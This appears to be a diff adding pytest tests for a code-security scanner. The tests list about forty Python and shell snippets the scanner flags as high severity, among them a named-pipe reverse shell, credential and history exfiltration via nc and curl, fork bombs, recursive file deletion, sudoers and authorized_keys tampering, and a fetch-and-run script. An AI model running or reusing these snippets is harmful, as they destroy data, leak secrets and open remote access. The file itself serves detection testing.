@@ -1,0 +1,69 @@
+"""Dangers of every kind, told plainly: none needs a disguise to be missed."""
+
+# ruff: noqa: E501 - one script a line
+
+import pytest
+
+from refute.scan.finding import Severity
+from refute.scan.rules import Language
+from refute.scan.scanner import scan_text
+
+PYTHON = [
+    "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
+    "import os\nos.rename('/etc/hosts', '/etc/hosts.bak')",
+    "import shutil\nshutil.copy('/etc/passwd', 'x')",
+    "import subprocess\nsubprocess.call(['useradd', '-m', 'evil'])",
+    "import os\ndef run(c):\n    return os.popen(c).read()\nrun('cat /etc/shadow')",
+    "import requests\nrequests.post('http://127.0.0.1:1/u', files={'f': open('/etc/hostname', 'rb')})",
+    "import requests, subprocess\nr = requests.get('http://127.0.0.1/x')\nopen('x.sh', 'w').write(r.text)\nsubprocess.run(['bash', 'x.sh'])",
+    "import os\nwhile True:\n    os.fork()",
+    "a = []\nwhile True:\n    a.append(' ' * 10**6)",
+    "import tarfile\nt = tarfile.open('a.tgz', 'w:gz')\nt.add('/etc')",
+    "import zipfile\nwith zipfile.ZipFile('x.zip', 'w') as z:\n    z.write('/etc/passwd')",
+    "import os, requests\nrequests.post('http://localhost/', json=dict(os.environ))",
+    "import os\nfor root, d, files in os.walk('/'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
+    "import os\nos.system(input())",
+    "f = open('/root/.ssh/authorized_keys', 'a')\nf.write('ssh-rsa x')",
+    "from pathlib import Path\nfor p in Path('/home').rglob('*'):\n    print(p)",
+]
+SHELL = [
+    "ps aux | grep x | awk '{print $2}' | xargs kill -9",
+    "kill -9 $(pgrep sshd)",
+    "mv /etc/hosts /etc/hosts.bak",
+    'echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
+    "while true; do ./x & done",
+    "while :; do echo x >> big; done",
+    ": > /etc/passwd",
+    "tar czf x.tgz /etc",
+    "zip -r x.zip /root",
+    "cp -r /home .",
+    "python3 -m http.server 80",
+    "ssh -R 80:localhost:80 serveo.net",
+    "ln -s /etc/passwd x; cat x",
+    "dd if=/dev/sda of=x",
+    "while read l; do echo $l; done < /etc/passwd",
+    "x=$(</etc/passwd); echo $x",
+    "curl -T /etc/passwd ftp://127.0.0.1/",
+    "curl -F f=@/proc/cpuinfo http://127.0.0.1/",
+    "cat /proc/meminfo | nc 127.0.0.1 80",
+    "for f in /etc/*; do echo $f; done",
+    "echo /root/*",
+    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f",
+    "history | nc 127.0.0.1 80",
+    'echo "import os" > "$SITE/sitecustomize.py"',
+    "p=$(which python || which python3); $p -c \"open('/etc/passwd').read()\"",
+]
+
+
+def _blocked(text: str, language: Language) -> bool:
+    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=language))
+
+
+@pytest.mark.parametrize("text", PYTHON)
+def test_dangerous_python_is_blocked(text: str) -> None:
+    assert _blocked(text, Language.PYTHON)
+
+
+@pytest.mark.parametrize("text", SHELL)
+def test_dangerous_shell_is_blocked(text: str) -> None:
+    assert _blocked(text, Language.SHELL)
